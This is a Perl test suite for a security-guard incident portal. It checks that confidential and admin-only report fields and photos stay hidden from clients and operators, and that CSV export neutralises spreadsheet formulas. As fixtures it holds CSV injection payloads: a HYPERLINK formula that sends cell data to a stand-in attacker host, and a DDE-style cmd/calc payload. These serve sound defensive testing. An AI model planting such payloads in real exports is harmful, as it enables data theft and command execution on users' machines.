#!/usr/bin/perl
# Invariant 9: a field or photo marked confidential or adminOnly never
# reaches a client, through any door of the portal; and a CSV cell is
# never a live spreadsheet formula (issue 10, items 2, 3 and 8).
#
# The reports go the real way: queued as the webhook queues them and
# recorded by tracktik-worker (run --drain --attachment-dir, photos
# fetched from the TrackTik simulator), in a database of this suite's own
# (TTWorker), which an nginx of its own serves the portal API from.
#   * search (q=) in the list and the CSV export finds a report by what
#     the user sees of it, never by a hidden field's words, its label, or
#     the raw entity's JSON key names; the operator's search reads the
#     same text (the detail hides those fields from operators too)
#   * photos of confidential or admin-only fields are not queued nor
#     fetched; already stored ones (from before the fix) are not listed,
#     counted, streamed as events or served
#   * CSV cells beginning with = + - @, a tab or a CR are neutralised;
#     plain negative numbers stay numbers

use strict;
use warnings;

use FindBin;
use lib "$FindBin::Bin/helper", "$FindBin::Bin/worker/lib";
use File::Path qw(make_path);
use IO::Select;
use IO::Socket::INET;
use JSON::PP ();
use Time::HiRes qw(time);
use Test::More;

use TrackTikTest;
use TTWorker;
use TTSim;

my $t = TTWorker->new('portal_hidden');
my $sim = TTSim->new(repo => TTWorker::repo(), args => [ '--history', '60' ]);
my $url = $sim->url;
my $store = "$t->{dir}/attachments";
my $true = JSON::PP::true;
$t->load_contracts;

my ($rc, $out, $err) = $sim->worker_login($t);
is $rc, 0, 'logged in to the simulator' or diag $err;

# three photo links the simulator serves
my @links;
for my $r (@{ $sim->get('/rest/v1/reports?id:gt=0&limit=100'
                        . '&include=reportFields')->{data} }) {
    push @links, grep { m{/uploads/report-photos/\d+\.png$} }
                 map { $_->{value} // '' } @{ $r->{reportFields} || [] };
}
my %seen;
@links = grep { !$seen{$_}++ } @links;
cmp_ok scalar(@links), '>=', 3, 'the simulator serves photos'
    or BAIL_OUT('no photos to test with');
my ($shown, $secret_photo, $admin_photo) =
    map { m{/(\d+)\.png$} ? $1 : die } @links[0 .. 2];

# words found in one field each; the hidden ones must never be found
my %word = (narrative => 'fence line at gate qhtrbx',
            note      => 'transfer request zqxjkv',
            memo      => 'billing reviewed wvyqpt',
            informant => 'neighbour pmwkrl');

my $client = 101;
my $formula = '=HYPERLINK("http://evil.example/?d="&A1,"Details")';
my %report = (hidden => 96001, cells => 96002);

my $hidden = report_json(id => $report{hidden}, category => $formula,
    account => { id => 102, name => 'Harbourfront Tower',
                 parentClient => $client, timeZone => 'America/Toronto' });
$hidden->{reportFields} = [
    { id => 1, value => $word{narrative},
      templateField => { id => 501, label => 'Narrative',
                         type => 'TEXTAREA' } },
    { id => 2, value => $word{note},
      templateField => { id => 502, label => 'Internal note',
                         type => 'TEXT', confidential => $true } },
    { id => 3, value => $word{memo},
      templateField => { id => 503, label => 'Dispatch memo',
                         type => 'TEXT', adminOnly => $true } },
    # the flag on the field itself, as t/data/ledger/confidential-fields.json
    { id => 4, label => 'Informant', value => $word{informant},
      confidential => $true },
    { id => 5, value => $links[0],
      templateField => { id => 504, label => 'Photo', type => 'PICTURE' } },
    { id => 6, value => $links[1],
      templateField => { id => 505, label => 'Suspect', type => 'PICTURE',
                         confidential => $true } },
    { id => 7, value => $links[2], adminOnly => $true,
      templateField => { id => 506, label => 'Damage', type => 'PICTURE' } },
];

# a report whose names a spreadsheet would take for formulas or numbers
my $cells = report_json(id => $report{cells}, category => '-12.5',
    reportDateTime => '2026-03-01T23:30:00Z',
    account => { id => 103, name => "\@SUM(1+1)*cmd|' /C calc'!A0",
                 parentClient => $client, timeZone => 'America/Toronto' });
$cells->{reportTemplate}{name} = "+1+2";
$cells->{reportFields} = [];

$t->enqueue([ 'hidden', $hidden ], [ 'cells', $cells ]);
($rc, my $log) = $t->drain('--attachment-dir', $store);
is $rc, 0, 'the worker records the reports' or diag $log;
is $t->value('SELECT count(*) FROM incidents_ledger'), 2, 'both recorded';

# users and their sessions, opened the way the module opens them
my $password = 'correct horse battery';
my $secret = 'portal-hidden-session-' . ('s' x 32);
my %cookie;
for my $u ([ 'client', "client.$$\@a.test", $client ],
           [ 'operator', "ops.$$\@guards.test", undef ]) {
    my ($role, $email, $cid) = @$u;
    $t->rows("SELECT portal_user_add('$email', '$password', '$role', "
             . ($cid // 'NULL') . ", NULL)");
    my $token = $t->value("SELECT next FROM ("
        . tt_login_sql($email, $password, '127.0.0.9', 3600) . ") l");
    $cookie{$role} = tt_session_cookie($token, $secret);
}

my $secret_file = tt_write_file("$t->{dir}/session.secret", "$secret\n");
chmod 0755, $t->{dir};
my $nginx = TrackTikTest::Nginx->start(
    http   => 'tracktik_postgres "' . $t->dsn . '" pool=2;',
    server => <<"CONF");
        tracktik_session_secret_file $secret_file;

        location /portal/api/ {
            tracktik_portal_api;
        }

        location /_tracktik_attachments/ {
            internal;
            alias $store/;
        }
CONF

# (status, body) of a GET as the role's user
sub fetch {
    my ($role, $path) = @_;
    my ($status, $h, $body) = tt_get($nginx->url("/portal/api/$path"),
                                     { Cookie => $cookie{$role} });
    return ($status, $body);
}

sub api { (fetch(@_))[1] }

sub ids {
    my ($body) = @_;
    my $d = eval { JSON::PP->new->decode($body) } or return "not JSON: $body";
    return join ',', map { $_->{id} } @{ $d->{items} };
}

sub csv_ids {
    my ($body) = @_;
    my @rows = split /\r\n/, $body;
    shift @rows;
    return join ',', map { /^(\d+),/ ? $1 : "?$_" } @rows;
}

# a query parameter's value, percent-encoded
sub uri {
    my ($s) = @_;
    $s =~ s/([^A-Za-z0-9_.~-])/sprintf '%%%02X', ord $1/ge;
    return $s;
}

subtest 'search finds a report by what its user sees of it' => sub {
    for my $role ('client', 'operator') {
        # (under three letters or digits: no trigram, another plan)
        for my $what ('qhtrbx', 'fence line', 'Narrative', 'Harbourfront',
                      'HYPERLINK', 'Incident', $report{hidden}, 'qh')
        {
            is ids(api($role, 'incidents?q=' . uri($what))), $report{hidden},
                "$role: q=$what finds it";
        }
        is csv_ids(api($role, 'incidents.csv?q=qhtrbx')), $report{hidden},
            "$role: the CSV export finds it too";
    }
};

subtest 'search never reads a hidden field, nor the raw entity' => sub {
    my @hidden = (
        'zqxjkv', 'transfer request', 'wvyqpt', 'pmwkrl', 'neighbour',
        # their labels
        'Internal note', 'Dispatch memo', 'Informant',
        # the raw entity's key names and structure
        'confidential', 'adminOnly', 'templateField', 'reportFields',
        'valueLabel', 'parentClient', '"id"', 'true',
        # photo links and their field labels
        'report-photos', $secret_photo, 'Suspect', 'Damage',
        # one character at a time, as an attacker narrows a filter
        'z', 'zq', 'zqx',
    );
    for my $role ('client', 'operator') {
        for my $what (@hidden) {
            is ids(api($role, 'incidents?q=' . uri($what))), '',
                "$role: q=$what finds nothing";
        }
        is csv_ids(api($role, 'incidents.csv?q=zqxjkv')), '',
            "$role: the CSV export finds nothing for a confidential word";
        is csv_ids(api($role, 'incidents.csv?q=confidential')), '',
            "$role: nor for a JSON key name";
    }
    unlike api('client', "incidents/$report{hidden}"),
        qr/zqxjkv|wvyqpt|pmwkrl|Internal note|Dispatch memo|Informant/,
        'the detail shows none of them either';
};

subtest 'photos of hidden fields are never queued nor fetched' => sub {
    is join(',', map { $_->[0] } $t->rows(
            'SELECT file_id FROM tracktik_photos ORDER BY file_id')),
        $shown, 'only the visible photo is queued';
    is join(',', map { $_->[0] } $t->rows(
            'SELECT id FROM portal_attachments ORDER BY id')),
        $shown, 'and stored';
    is $sim->state->{requests}{'GET /uploads/report-photos/{id}.png'} // 0,
        1, 'one photo downloaded';
};

# as if stored before the fix: rows and files for the hidden photos
# (the code before it had stored them already)
make_path("$store/old");
for my $id ($secret_photo, $admin_photo) {
    tt_write_file("$store/old/$id.png", "hidden photo $id");
    $t->rows("INSERT INTO portal_attachments (id, report_id, name,"
             . " content_type, storage_key) VALUES ($id, $report{hidden},"
             . " '$id.png', 'image/png', 'old/$id.png')"
             . " ON CONFLICT DO NOTHING");
}

subtest 'photos of hidden fields stored earlier: not listed nor served' => sub {
    for my $role ('client', 'operator') {
        my $d = JSON::PP->new->decode(api($role, "incidents/$report{hidden}"));
        is join(',', map { $_->{id} } @{ $d->{attachments} }), $shown,
            "$role: the detail lists the visible photo only";
        is $d->{photos}, 1, "$role: the detail counts one photo";

        my $list = JSON::PP->new->decode(api($role, 'incidents?q=qhtrbx'));
        is $list->{items}[0]{photos}, 1, "$role: the list counts one photo";

        for my $id ($secret_photo, $admin_photo) {
            my ($status, $body) = fetch($role, "attachments/$id");
            is $status, 404, "$role: attachment $id is 404";
            unlike $body, qr/hidden photo/, "$role: its bytes are not sent";
        }
        my ($status, $body) = fetch($role, "attachments/$shown");
        is $status, 200, "$role: the visible photo is served";
        like $body, qr/\A\x89PNG/, "$role: as the PNG it is";
    }
};

# the event stream's first message after Last-Event-ID: 0
sub first_events {
    my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1',
                                  PeerPort => $nginx->port, Timeout => 5)
        or die "connect: $!";
    print $s "GET /portal/api/events HTTP/1.1\r\nHost: localhost\r\n"
           . "Cookie: $cookie{client}\r\nLast-Event-ID: 0\r\n"
           . "Accept: text/event-stream\r\n\r\n";
    my ($buf, $end) = ('', time + 10);
    my $sel = IO::Select->new($s);
    while (time < $end && $buf !~ /event: incidents\r?\ndata: [^\n]*\n/) {
        last unless $sel->can_read($end - time);
        sysread($s, $buf, 65536, length $buf) or last;
    }
    close $s;
    return $buf;
}

subtest 'the event stream counts the visible photo only' => sub {
    my $events = first_events();
    my ($data) = $events =~ /event: incidents\r?\ndata: ([^\n]*)\n/;
    ok defined $data, 'an incidents event' or return diag $events;
    $data =~ s/\r\z//;
    my ($item) = grep { $_->{id} == $report{hidden} }
                 @{ JSON::PP->new->decode($data) };
    ok $item, 'with the report' or return;
    is $item->{photos}, 1, 'one photo';
};

subtest 'CSV cells are never formulas; negative numbers stay numbers' => sub {
    my $csv = api('client', 'incidents.csv');
    my %row = map { /^(\d+),/ ? ($1 => $_) : () } split /\r\n/, $csv;
    like $row{$report{hidden}},
        qr/,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A1,""Details""\)",/,
        'a formula category is quoted behind a single quote';
    like $row{$report{cells}},
        qr/,103,"'\@SUM\(1\+1\)\*cmd\|' \/C calc'!A0",-12\.5,HIGH,"'\+1\+2",/,
        '@ and + cells are neutralised, the category -12.5 is kept';
    is_deeply [ map { $t->value("SELECT portal_csv(" . $t->quote($_) . ")") }
                    '-3', '-0.25', '-1+2', "\tx", "\rx", '  =1', '-' ],
        [ '-3', '-0.25', q{"'-1+2"}, qq{"'\tx"}, qq{"'\rx"}, q{"'  =1"},
          q{"'-"} ],
        'every kind of cell OWASP names, and negative numbers';
};

$nginx->stop;
done_testing;
